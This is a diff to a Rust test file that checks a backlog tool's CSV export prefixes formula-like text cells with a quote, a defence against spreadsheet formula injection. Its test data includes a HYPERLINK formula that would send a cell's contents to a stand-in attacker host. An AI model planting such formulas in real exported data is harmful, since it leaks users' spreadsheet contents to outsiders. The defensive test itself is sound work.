@@ -45,8 +45,19 @@ fn backlog() -> (tempfile::TempDir, std::path::PathBuf) {
     (dir, db)
 }
 
-/// A JSON field as the CSV cell must hold it.
+/// A JSON field as the CSV cell must hold it: text that a spreadsheet would
+/// run as a formula begins with a quote; numbers, dates and ids never do.
 fn expected_cell(field: &str, v: &Value) -> String {
+    let cell = plain_cell(field, v);
+    let text = v.is_string() || (v.is_array() && field != "blocked_by");
+    if text && cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+fn plain_cell(field: &str, v: &Value) -> String {
     match v {
         Value::Null => String::new(),
         Value::String(s) => s.clone(),
@@ -65,7 +76,7 @@ fn expected_cell(field: &str, v: &Value) -> String {
             .join("\n"),
         Value::Array(a) => a
             .iter()
-            .map(|x| expected_cell(field, x))
+            .map(|x| plain_cell(field, x))
             .collect::<Vec<_>>()
             .join(";"),
         Value::Object(_) => panic!("{field} is an object"),
@@ -124,6 +135,57 @@ fn csv_export_read_back_matches_the_json_export_field_by_field() {
         &rows[3][head.iter().position(|h| h == "duplicate_of").unwrap()],
         "1"
     );
+    // The one cell that begins like a formula.
+    assert_eq!(
+        &rows[1][head.iter().position(|h| h == "title").unwrap()],
+        "'=SUM(A1:A9) is just a title"
+    );
+}
+
+#[test]
+fn csv_text_a_spreadsheet_would_run_as_a_formula_begins_with_a_quote() {
+    let title = r#"=HYPERLINK("https://evil.example/?d="&A1, "Click for details")"#;
+    let doc = json!({"version": 1, "items": [
+        {"id": 1, "title": title, "owner": "+31 6 1234 5678", "labels": ["-wip", "web"],
+         "description": "@SUM(1, 2)", "segment": "-", "workaround": "\t=1", "root_cause": "\r=1",
+         "metric": "a = b", "prevention": "'already quoted",
+         "value": 8, "impact": 13, "risk": 3, "effort": 5, "due": "2026-11-24",
+         "created": "2026-11-01T08:00:00Z"},
+    ]});
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("doc.json");
+    std::fs::write(&file, doc.to_string()).unwrap();
+    let db = dir.path().join("t.db");
+    lanes(&db).arg("import").arg(&file).assert().success();
+    let out = lanes(&db)
+        .args(["export", "--format", "csv"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
+    let head: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let row = reader.records().next().unwrap().unwrap();
+    let get = |name: &str| row[head.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(get("title"), format!("'{title}"));
+    assert_eq!(get("owner"), "'+31 6 1234 5678");
+    assert_eq!(get("labels"), "'-wip;web");
+    assert_eq!(get("description"), "'@SUM(1, 2)");
+    assert_eq!(get("segment"), "'-");
+    assert_eq!(get("workaround"), "'\t=1");
+    assert_eq!(get("root_cause"), "'\r=1");
+    // Only the beginning of a cell counts, and a quote is not doubled.
+    assert_eq!(get("metric"), "a = b");
+    assert_eq!(get("prevention"), "'already quoted");
+    // Numbers, dates and ids as they are.
+    assert_eq!(get("id"), "1");
+    assert_eq!(get("value"), "8");
+    assert_eq!(get("due"), "2026-11-24");
+    assert_eq!(get("created"), "2026-11-01T08:00:00Z");
+    assert!(get("score").parse::<f64>().is_ok());
+    // The native document keeps the text as it was written.
+    let native: Value =
+        serde_json::from_slice(&lanes(&db).args(["export"]).output().unwrap().stdout).unwrap();
+    assert_eq!(native["items"][0]["title"], title);
 }
 
 #[test]
